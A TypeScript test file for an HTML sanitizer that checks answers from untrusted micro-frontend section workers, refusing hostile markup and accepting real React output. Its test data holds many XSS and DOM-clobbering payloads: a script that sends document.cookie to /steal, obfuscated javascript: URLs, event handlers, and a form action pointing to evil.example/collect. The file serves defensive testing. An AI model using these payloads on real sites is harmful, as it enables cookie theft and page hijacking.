import { createElement as h, Suspense, useId, type ReactNode } from 'react';
import { renderToString } from 'react-dom/server';
import { codePoint, nameSpaceEscape, NON_HTML_SPACES } from '@portico/testing/hostile-builds';
import { FORM_TEXTS_ATTRIBUTE, type ContactFormTexts } from '@portico/contract/contact-form';
import { checkSectionHtml, idsIn } from '../section-html';

// A section worker runs a section team's code, so its answer is written by
// whoever controls that code. Each test here is an answer such an attacker
// would send, and what the front server must make of it; the last ones are
// what React itself writes, which must go through.

const RULES = { maxBytes: 64 * 1024, section: 'contact' } as const;
const check = (html: unknown) => checkSectionHtml(html, RULES);

function expectRefused(html: string, reason?: RegExp): void {
  const result = check(html);
  expect(result).toEqual({ ok: false, reason: expect.any(String) });
  if (reason && !result.ok) expect(result.reason).toMatch(reason);
}

// Each is an unknown element to a browser, and its end tag closes a real one around it (tests/specs/section-html-attacks.spec.ts shows it in Chromium).
describe('names read as a browser reads them: only tab, line feed, form feed, carriage return and space end them', () => {
  test.each(NON_HTML_SPACES.map((space) => [codePoint(space), space]))('%s after a tag name: refused', (_name, space) => {
    // Closing elements that are not the ones the browser opened, then a notice of the attacker's outside the slot.
    expectRefused(nameSpaceEscape(space, '<div class="home-escaped"><h2>NOTICE</h2></div>'));
    expectRefused(`<p${space}>x</p>`);
  });

  test.each(NON_HTML_SPACES.map((space) => [codePoint(space), space]))('%s between attributes: refused', (_name, space) => {
    expectRefused(`<div${space}class="a">x</div>`);
    expectRefused(`<div class="a"${space}id="contact-x">x</div>`);
  });

  test('what is accepted is served as the parser writes its tree out: void elements unclosed, text re-escaped', () => {
    expect(check('<p>a &amp; b<br/>c&nbsp;d</p><input type="text" value="&quot;x&quot;"/>')).toEqual({
      ok: true,
      html: '<p>a &amp; b<br>c&nbsp;d</p><input type="text" value="&quot;x&quot;">',
    });
  });

  test('a duplicate attribute: a browser keeps the first, and the HTML served holds only that one, checked', () => {
    expect(check('<div id="contact-a" id="contact-b">x</div>')).toEqual({ ok: true, html: '<div id="contact-a">x</div>' });
    expectRefused('<div id="contact-a" id="home-b">x</div>', /not the contact section's own/);
  });
});

describe('an answer that would leave its slot in the page', () => {
  test.each([
    ['closes its container and opens a footer of its own', '<p>hi</p></div></section><footer><a href="https://evil.example">Terms</a></footer>'],
    ['closes one element too many', '<div><p>hi</p></div></div>'],
    ['leaves an element open', '<div><p>hi'],
    ['leaves an element open at the very end', '<section><h2>Home</h2>'],
    ['closes elements in the wrong order', '<div><span>x</div></span>'],
    ['closes formatting elements in the wrong order', '<b><i>x</b></i>'],
    ['closes what was never opened', '</div>'],
    ['writes a tag that never ends', '<div><img src="/a.png"'],
    ['closes with an end tag carrying more', '<div>x</div class="y">'],
  ])('%s: refused', (_what, html) => {
    expectRefused(html);
  });

  // Well nested as text, but a browser closes elements on its own here, and
  // the section's later end tags then close the page's elements
  // (section-html-in-a-browser.test.ts shows each happening in a parser).
  test.each([
    ['an <li> inside a <div> inside an <li>', '<ul><li><div><li>x</li></div></li></ul>'],
    ['a <dt> inside a <div> inside a <dd>', '<dl><dd><div><dt>x</dt></div></dd></dl>'],
    ['a <button> inside a <div> inside a <button>', '<button><div><button>x</button></div></button>'],
    ['an <input> inside a <div> inside a <select>', '<select><div><input/></div></select>'],
    ['a <select> inside a <div> inside a <select>', '<select><div><select></select></div></select>'],
    ['a <textarea> inside a <select>', '<select><textarea>x</textarea></select>'],
    ['a <table> inside a <div> inside a <table>', '<table><div><table></table></div></table>'],
    ['a table row outside a table', '<tr><div>x</div></tr>'],
    ['a <div> written self-closed inside <svg>', '<svg><div/></svg><p>swallowed</p>'],
    ['an HTML element inside <svg>, then a self-closed one', '<svg><b>x</b><section/></svg>'],
    ['a self-closed element inside <svg><desc>', '<svg><desc><div/></desc></svg>'],
    ['a <div> inside a <p>', '<p><span><div>x</div></span></p>'],
    ['a heading inside a heading', '<h1><h2>x</h2></h1>'],
    ['a form inside a form', '<form><div><form></form></div></form>'],
    ['a link inside a link', '<a href="/a"><div><a href="/b">x</a></div></a>'],
    ['an <li> outside any list', '<div><li>x</li></div>'],
    ['an <option> outside a <select>', '<div><option>x</option></div>'],
    ['an element inside an <option>', '<select><option><b>x</b></option></select>'],
    ['<image>, which a browser reads as <img>', '<image><div>x</div></image>'],
  ])('%s: refused', (_what, html) => {
    expectRefused(html, /browser|<image>|not allowed/);
  });
});

describe('an answer that would run code or act on the rest of the page', () => {
  test.each([
    ['<script>', '<div><script>fetch("/steal?c="+document.cookie)</script></div>'],
    ['<SCRIPT> in capitals', '<div><SCRIPT>alert(1)</SCRIPT></div>'],
    ['<script> inside <svg>', '<svg><script>alert(1)</script></svg>'],
    ['<style>', '<style>nav{display:none}</style>'],
    ['a stylesheet <link>', '<link rel="stylesheet" href="https://evil.example/x.css"/>'],
    ['a <link> that names itself a preload and a stylesheet', '<link rel="stylesheet" rel="preload" as="image" href="/a.png"/>'],
    ['an image preload inside an element', '<div><link rel="preload" as="image" href="/a.png"/></div>'],
    ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=https://evil.example"/>'],
    ['<base>', '<base href="https://evil.example/"/>'],
    ['<iframe>', '<iframe src="https://evil.example"></iframe>'],
    ['<template>', '<template><script>alert(1)</script></template>'],
    ['<svg><foreignObject>', '<svg><foreignObject><div>x</div></foreignObject></svg>'],
    ['<math>', '<math><mi>x</mi></math>'],
    ['<object>', '<object data="https://evil.example/x.swf"></object>'],
    ['<embed>', '<embed src="https://evil.example/x"/>'],
    ['<noscript>', '<noscript><p>x</p></noscript>'],
    ['<title>, which React hoists to change the document title', '<title>Pay here</title>'],
    ['<plaintext>', '<plaintext>'],
    ['<keygen>, void to the parser', '<keygen>x</keygen>'],
  ])('%s: refused', (_what, html) => {
    expectRefused(html);
  });

  test.each([
    ['onclick', '<button onclick="steal()">Pay</button>'],
    ['ONERROR in capitals', '<img src="/x.png" ONERROR="steal()"/>'],
    ['onload on svg', '<svg onload="steal()"></svg>'],
    ['onfocus with autofocus', '<input autofocus="" onfocus="steal()"/>'],
  ])('an event handler attribute (%s): refused', (_what, html) => {
    expectRefused(html, /event handler/);
  });

  test.each([
    ['href javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['href in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['href vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['href data:', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['href with the j as a decimal reference', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['href with the j as a hexadecimal reference', '<a href="&#x6A;avascript:alert(1)">x</a>'],
    ['href with a reference without its semicolon', '<a href="&#x6Aavascript:alert(1)">x</a>'],
    ['href with padded zeros', '<a href="&#0000106avascript:alert(1)">x</a>'],
    ['href with the colon as &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
    ['href with a tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>'],
    ['href with a newline inside the scheme', '<a href="java\nscript:alert(1)">x</a>'],
    ['href with an encoded tab inside the scheme', '<a href="java&#9;script:alert(1)">x</a>'],
    ['href with &Tab; inside the scheme', '<a href="java&Tab;script:alert(1)">x</a>'],
    ['href with control characters before the scheme', '<a href="\u0001 javascript:alert(1)">x</a>'],
    ['img src', '<img src="javascript:alert(1)"/>'],
    ['form action', '<form action="javascript:alert(1)"><button>Go</button></form>'],
    ['button formaction', '<form action="/api/contact"><button formaction="javascript:alert(1)">Go</button></form>'],
    ['a later srcset candidate', '<img src="/a.png" srcset="/a.png 1x, javascript:alert(1) 2x"/>'],
    ['srcset data:', '<img srcSet="data:image/svg+xml,&lt;svg onload=alert(1)&gt; 1x"/>'],
    ['xlink:href in svg', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['href in svg', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['video poster', '<video poster="javascript:alert(1)"></video>'],
  ])('a URL that is not http(s), mailto or tel (%s): refused', (_what, html) => {
    expectRefused(html, /URL/);
  });

  test.each([
    ['<animate> that sets an href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text>x</text></a></svg>'],
    ['<set> that sets an xlink:href', '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"></set><text>x</text></a></svg>'],
    ['<animate> that sets an event handler', '<svg><animate attributeName="onbegin" to="alert(1)"></animate></svg>'],
  ])('SVG animation of a link or a handler (%s): refused', (_what, html) => {
    expectRefused(html, /animates/);
  });

  test.each([
    ["a button that sends another section's form elsewhere", '<button form="contact-form" formaction="https://evil.example/collect">Win</button>'],
    ["an input that adds itself to another section's form", '<input form="contact-form" name="to" value="attacker@evil.example"/>'],
    ["a button that opens or closes the shell's popover", '<button popovertarget="nav-menu">Menu</button>'],
    ["a button that commands the shell's dialog", '<button commandfor="cookie-dialog" command="close">OK</button>'],
  ])('%s: refused', (_what, html) => {
    expectRefused(html, /outside it/);
  });

  test.each([
    ['the page data id', '<div id="portico-page-data">{}</div>'],
    ['the page data id, entity-encoded', '<div id="portico&#45;page-data">{}</div>'],
    ['the page data id, hexadecimal references throughout', '<div id="&#x70;&#x6f;rtico-page-data">{}</div>'],
    ['the id attribute in capitals', '<div ID="root">x</div>'],
    ["a shell's panel", '<section id="about">x</section>'],
    ["a shell's tab", '<a id="tab-home" href="#home">x</a>'],
    ["the host's chunk list (the host's script would stop: `o.forEach is not a function`)", '<div id="webpackChunkportico_host"></div>'],
    ["the page script's chunk list", '<div id="webpackChunkportico_host_page_script"></div>'],
    ["a remote's chunk list", '<div id="webpackChunkportico_home"></div>'],
    ["a section's federation container, where the runtime looks for one already loaded", '<div id="portico_home"></div>'],
    ["the federation runtime's globals", '<div id="__FEDERATION__"></div>'],
    ['a global a library reads if it is there', '<div id="__zod_globalConfig"></div>'],
    ["another section's id from useId (Home taking Contact's field, to push Contact's HTML out)", '<input id="_home-R_0_-name"/>'],
    ["another section's prefix", '<h2 id="about-team">x</h2>'],
    ['its own name with no dash after it', '<h2 id="contactus">x</h2>'],
  ])("an id that is not the section's own (%s): refused, naming it", (_what, html) => {
    expectRefused(html, /takes the id "[^"]+", which is not the contact section's own \(its ids start with "contact-"\)/);
  });

  test('no name a script can reach as a global is ever a section\'s id: an identifier has no "-"', () => {
    for (const name of ['webpackChunkportico_contact', 'portico_contact', 'contact', 'contact_', '$contact', '_contact', 'contactR_0_', 'Contact']) {
      expectRefused(`<div id="${name}"></div>`, /not the contact section's own/);
    }
  });

  test.each([
    ["a label of another section's field (a click there focuses it)", '<label for="_home-R_0_-name">Name</label>'],
    ["aria-owns that takes another section's field", '<div aria-owns="contact-x _home-R_0_-name"></div>'],
    ["aria-labelledby naming the shell's tab", '<div aria-labelledby="tab-home"></div>'],
    ['aria-controls naming a shell panel, entity-encoded', '<button aria-controls="&#97;bout">x</button>'],
  ])('an attribute that names an element that is not its own (%s): refused', (_what, html) => {
    expectRefused(html, /names the element "[^"]+", which is not the contact section's own/);
  });

  test.each([
    ["a container of Contact's own, to catch its island", '<div data-section-island="contact"><form></form></div>'],
    ['an island state', '<div data-island-state="hydrated"></div>'],
    ['a marker in capitals', '<div DATA-SECTION-ISLAND="home"></div>'],
  ])("the page's own markers (%s): refused", (_what, html) => {
    expectRefused(html, /marks the page's own parts/);
  });

  test("its own ids, and references to them, as React's useId and a team write them: accepted", () => {
    expect(
      check(
        '<h2 id="contact-title">x</h2><label for="_contact-R_0_-name">Name</label><input id="_contact-R_0_-name" aria-describedby="_contact-R_0_-name-error contact-title"/>',
      ),
    ).toMatchObject({ ok: true });
  });

  test.each([
    ['img', '<img name="cookie" src="/a.png"/>'],
    ['form', '<form name="cookie" action="/api/contact"></form>'],
    ['a', '<a name="domain" href="/">x</a>'],
  ])('a name on <%s>, which would shadow a property of document: refused', (_element, html) => {
    expectRefused(html, /name/);
  });

  test.each(['input', 'select', 'textarea', 'button'])('a name on <%s> only names a field: accepted', (element) => {
    const html =
      element === 'input'
        ? '<input name="cookie"/>'
        : element === 'select'
          ? '<select name="cookie"><option>a</option></select>'
          : `<${element} name="cookie">x</${element}>`;
    expect(check(`<form action="/api/contact">${html}</form>`)).toMatchObject({ ok: true });
  });

  test('a <textarea> holding markup: refused', () => {
    expectRefused('<textarea><script>alert(1)</script></textarea>');
    expectRefused('<textarea><img src="/a.png"/></textarea>');
    expectRefused('<textarea>never closed');
  });

  test('a <textarea> holding escaped text, closed in any case, after text in Turkish: accepted', () => {
    expect(check('<textarea>a &lt;b&gt; &amp; c</textarea>')).toMatchObject({ ok: true });
    expect(check('<textarea>x</TEXTAREA>')).toMatchObject({ ok: true });
    // A lowercased copy of this text is longer than the text ("İ" becomes two characters).
    expect(check('<p>İstanbul, İzmir</p><form action="/api/contact"><textarea name="message">Merhaba</textarea></form>')).toMatchObject({ ok: true });
  });

  test.each([
    ['an empty comment, then a script', '<!-- --><script>alert(1)</script>'],
    ['a comment naming a slot of the page', '<!--portico:section:home-->'],
    ['a comment closed at once (<!-->), hiding markup from a reader that waits for -->', '<!--><img src="/a.png" onerror="x"/>-->'],
    ['a comment never closed', '<p>x</p><!--'],
    ['a comment holding anything else', '<!-- a note -->'],
    ['a CDATA section', '<svg><![CDATA[x]]></svg>'],
    ['a doctype', '<!doctype html><p>x</p>'],
    ['a processing instruction', '<?xml version="1.0"?><p>x</p>'],
  ])('%s: refused', (_what, html) => {
    expectRefused(html);
  });

  test.each([
    ['unquoted', '<a href=javascript:alert(1)>x</a>'],
    ['single-quoted', "<a href='javascript:alert(1)'>x</a>"],
    ['with a raw > inside its value', '<a title="a>b" href="javascript:alert(1)">x</a>'],
    ['with a raw > that would end the tag early', '<div title="x>"><img src=x onerror=alert(1)>"></div>'],
    ['written against the previous one', '<img src="/a.png"onerror="alert(1)"/>'],
    ['after a slash', '<img/onerror="alert(1)" src="/a.png"/>'],
    ['with a name React never writes', '<div x<y="1">x</div>'],
  ])('an attribute %s: refused', (_what, html) => {
    expectRefused(html);
  });

  test('HTML over maxBytes is refused, counted in UTF-8 bytes, not characters', () => {
    const rules = { maxBytes: 100, section: 'contact' } as const;
    const euros = `<p>${'€'.repeat(40)}</p>`; // 47 characters, 127 bytes
    expect(euros.length).toBeLessThan(rules.maxBytes);
    expect(checkSectionHtml(euros, rules)).toEqual({ ok: false, reason: expect.stringMatching(/over 100 bytes/) });
    expect(checkSectionHtml(`<p>${'€'.repeat(31)}</p>`, rules)).toMatchObject({ ok: true }); // 100 bytes
  });

  test('elements nested deeper than 256 are refused; 256 deep is accepted', () => {
    const nested = (depth: number) => '<div>'.repeat(depth) + 'x' + '</div>'.repeat(depth);
    expect(check(nested(256))).toMatchObject({ ok: true });
    expectRefused(nested(257), /deeper than 256/);
  });

  test.each([undefined, null, 42, { html: '<p>x</p>' }, ['<p>x</p>']])('an answer that is not text (%p): refused', (answer) => {
    expect(check(answer)).toEqual({ ok: false, reason: 'the answer is not HTML text' });
  });
});

describe('what React writes for a section is accepted', () => {
  function ContactField({ label, multiline }: { label: string; multiline?: boolean }) {
    const id = useId();
    return h(
      'div',
      { className: 'field' },
      h('label', { htmlFor: id }, label),
      multiline
        ? h('textarea', { id, name: 'message', defaultValue: 'Hello <team>, 5 > 3 & "quotes"' })
        : h('input', { id, name: 'email', type: 'email', required: true }),
    );
  }

  const render = (tree: ReactNode) => renderToString(tree, { identifierPrefix: 'contact-' });

  test.each<[string, ReactNode]>([
    [
      'a contact form with useId labels, an input, a textarea holding "<", a select and a button',
      h(
        'form',
        { action: '/api/contact', method: 'post', noValidate: true },
        h(ContactField, { label: 'Email' }),
        h(ContactField, { label: 'Message', multiline: true }),
        h(
          'select',
          { name: 'topic', defaultValue: 'loan' },
          h('option', { value: 'loan' }, 'Loan'),
          h('optgroup', { label: 'Other' }, h('option', { value: 'x' }, 'X')),
        ),
        h('label', null, h('input', { type: 'checkbox', name: 'consent' }), ' I agree'),
        h('button', { type: 'submit', disabled: false }, 'Send'),
      ),
    ],
    [
      'images (with the preloads React writes first) and an inline svg icon',
      h(
        'div',
        null,
        h('img', { src: '/assets/hero.webp', alt: 'A family at home', width: 640, height: 480 }),
        h('img', { src: 'https://cdn.example/a.png', srcSet: 'https://cdn.example/a.png 1x, /b.png 2x', sizes: '100vw', alt: '' }),
        h(
          'svg',
          { viewBox: '0 0 24 24', 'aria-hidden': true },
          h('path', { d: 'M12 2L2 22h20z', fill: 'currentColor' }),
          h('circle', { cx: 12, cy: 12, r: 2 }),
        ),
      ),
    ],
    [
      'lists of links to https, mailto, tel and relative addresses, and a description list',
      h(
        'nav',
        null,
        h(
          'ul',
          null,
          h('li', null, h('a', { href: 'https://example.com/terms', target: '_blank', rel: 'noreferrer' }, 'Terms')),
          h('li', null, h('a', { href: 'mailto:hello@example.com' }, 'Write')),
          h('li', null, h('a', { href: 'tel:+33123456789' }, 'Call')),
          h('li', null, h('a', { href: '?type=2#rates' }, 'Rates'), h('ol', null, h('li', null, 'one'), h('li', null, 'two'))),
        ),
        h('dl', null, h('dt', null, 'Rate'), h('dd', null, '3.1 %'), h('div', null, h('dt', null, 'Term'), h('dd', null, '12 months'))),
      ),
    ],
    [
      'text with & < > " \' and adjacent text nodes',
      h('section', null, h('h2', null, 'Loans & more'), h('p', null, 'a < b > c "quoted" \'single\' ', 3, ' items ', h('strong', null, 'now'))),
    ],
    ['a Suspense boundary', h(Suspense, { fallback: h('p', null, 'Loading') }, h('article', null, h('h3', null, 'Inside')))],
    [
      'a table with its sections, inline styles and data attributes',
      h(
        'table',
        null,
        h('caption', null, 'Rates'),
        h('thead', null, h('tr', null, h('th', { scope: 'col' }, 'Term'), h('th', { scope: 'col' }, 'Rate'))),
        h('tbody', null, h('tr', { 'data-row': '1' }, h('td', { style: { fontWeight: 600 } }, '12'), h('td', null, h('p', null, '3 %')))),
      ),
    ],
    [
      'buttons and paragraphs as React nests them',
      h('p', null, h('button', { type: 'button' }, h('span', null, 'Open')), h('br'), h('a', { href: '/about' }, h('b', null, 'About'))),
    ],
  ])('%s', (_what, tree) => {
    const html = render(tree);
    expect(check(html)).toMatchObject({ ok: true });
  });

  test('React writes what the tests above take it to write: preloads first, useId labels, escaped text', () => {
    const html = render(
      h(
        'div',
        null,
        h('img', { src: '/a.png', alt: '' }),
        h(ContactField, { label: 'Message', multiline: true }),
        h(Suspense, { fallback: null }, h('p', null, 'x')),
      ),
    );
    expect(html).toMatch(/^<link rel="preload" as="image" href="\/a.png"\/>/);
    expect(html).toMatch(/<label for="([^"]+)">Message<\/label><textarea id="\1"/);
    expect(html).toContain('Hello &lt;team&gt;');
    expect(html).toContain('<!--$-->');
  });
});

describe('idsIn', () => {
  test('collects every id, decoded, whatever the case of the attribute', () => {
    const ids = idsIn('<div id="a"><p ID="b">x</p><span id="c&#45;d"></span><i data-id="not-an-id"></i></div>');
    expect([...ids].sort()).toEqual(['a', 'b', 'c-d']);
  });

  test("an id in capitals in a section's HTML is found, so a clash with the shell's ids is seen", () => {
    const shell = idsIn('<main id="main-content"><div class="section-root"></div></main>');
    const section = idsIn('<div ID="main-content">x</div>');
    expect([...section].some((id) => shell.has(id))).toBe(true);
  });

  test('an HTML without ids has none', () => {
    expect(idsIn('<p>no id here</p>').size).toBe(0);
  });
});

describe("the words a section's form carries for the server's answer (issue 49)", () => {
  const WORDS: ContactFormTexts = {
    required: 'Please fill in this field.',
    incomplete: 'Please provide complete information!',
    sent: 'Thank you.',
    rateLimited: 'Please wait.',
    busy: 'The server is busy.',
    invalid: { name: 'Check the name.', telephone: 'Check the telephone.', message: 'Check the message.' },
    refused: 'Refused.',
  };
  const form = (words: unknown, id = 'contact-form') =>
    renderToString(h('form', { id, method: 'post', [FORM_TEXTS_ATTRIBUTE]: JSON.stringify(words) }, h('input', { name: 'name' })));

  // Checked to fail before the change: the page got the form with its words (about 1 KB per page, past the first window).
  test('are taken out of the HTML a page gets, and kept beside it', () => {
    const checked = check(form(WORDS));
    expect(checked).toEqual({ ok: true, html: '<form id="contact-form" method="post"><input name="name"></form>', formTexts: WORDS });
  });

  test('only the first form is answered in its words; every copy of the attribute is taken out, on any element', () => {
    const html = `<div ${FORM_TEXTS_ATTRIBUTE}="{}">${form(WORDS)}${form({ ...WORDS, sent: 'Other.' }, 'contact-other')}</div>`;
    const checked = check(html);
    expect(checked).toMatchObject({ ok: true, formTexts: WORDS });
    expect(checked.ok && checked.html).not.toContain(FORM_TEXTS_ATTRIBUTE);
  });

  test.each<[string, unknown]>([
    ['not JSON', 'not json'],
    ['a sentence that is not text', { ...WORDS, busy: { toString: 'x' } }],
    ['a sentence missing', { ...WORDS, refused: undefined }],
    ['a field missing', { ...WORDS, invalid: { name: 'x', telephone: 'y' } }],
    ['a sentence over 1,000 characters', { ...WORDS, sent: 'x'.repeat(1001) }],
    ['over 16 KB in all', { ...WORDS, pad: 'x'.repeat(16 * 1024) }],
  ])("a section team's words that are %s: not kept (the form is answered without them), and still taken out", (_what, words) => {
    const checked = check(typeof words === 'string' ? form('').replace('&quot;&quot;', words) : form(words));
    expect(checked.ok).toBe(true);
    expect(checked).not.toHaveProperty('formTexts');
    expect(checked.ok && checked.html).not.toContain(FORM_TEXTS_ATTRIBUTE);
  });
});
